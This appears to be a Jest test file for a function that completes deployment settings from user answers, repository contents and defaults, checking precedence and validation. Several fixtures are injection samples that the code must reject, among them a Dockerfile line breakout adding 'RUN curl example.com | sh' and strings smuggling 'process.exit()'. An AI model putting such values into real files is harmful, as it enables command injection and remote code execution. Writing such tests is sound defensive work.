import { Candidates, completeSettings, settingNames } from './settings';

const complete = (read: Candidates, answers = {}) =>
  completeSettings({
    asked: settingNames,
    answers: { main: 'a.js', image: 'a:1', ...answers },
    readRepository: async () => read,
    entityRef: 'component:default/orders',
  });

it('goes by answers, then by the repository, then by what is usual', async () => {
  expect(
    await complete({ port: [3000], memoryLimit: [64] }, { port: 9090 }),
  ).toEqual({
    values: {
      main: 'a.js',
      port: 9090,
      healthPath: '/healthz',
      readyPath: '/readyz',
      memoryLimit: 64,
      image: 'a:1',
    },
    read: ['memoryLimit'],
  });
});

it('asks no repository where all is answered', async () => {
  const readRepository = jest.fn();
  await completeSettings({
    asked: ['main'],
    answers: { main: 'a.js' },
    readRepository,
    entityRef: 'component:default/orders',
  });
  expect(readRepository).not.toHaveBeenCalled();
});

it('names all that nothing tells', async () => {
  await expect(complete({}, { main: '', image: undefined })).rejects.toThrow(
    'The repository of component:default/orders does not say what starts it: give "main"\nThe repository of component:default/orders does not say the image to deploy, with a version: give "image"',
  );
});

it('goes by the first that a repository can mean', async () => {
  expect(
    await complete(
      {
        image: ['a:latest', 'ghcr.io/acme/a:1.0.0+1', 'ghcr.io/acme/a:1.0.0'],
        port: [undefined, 70_000, 3000, 4000],
      },
      { image: '' },
    ),
  ).toMatchObject({
    values: { image: 'ghcr.io/acme/a:1.0.0', port: 3000 },
    read: ['port', 'image'],
  });
});

// What a repository says may be anything, and is written into its files.
it.each<Candidates>([
  { main: ['a.js"]\nRUN curl example.com | sh'] },
  { main: ['-e process.exit()'] },
  { image: ['a:latest', 'a'] },
  { image: ['a:${VERSION}'] },
  { image: ['a:1.0.0+1'] },
])('asks for what a repository cannot mean by %j', async read => {
  const [name] = Object.keys(read);
  await expect(complete(read, { [name]: '' })).rejects.toThrow(
    `give "${name}"`,
  );
});

it.each<Candidates>([
  { port: [0] },
  { port: [70_000] },
  { port: [NaN] },
  { port: [3000.5] },
  { healthPath: ['/a b'] },
  { healthPath: ["/'); process.exit(); ('"] },
  { readyPath: ['ready'] },
  { memoryLimit: [1, 64.5] },
])('goes by what is usual where a repository says %j', async read => {
  expect(await complete(read)).toEqual(await complete({}));
});
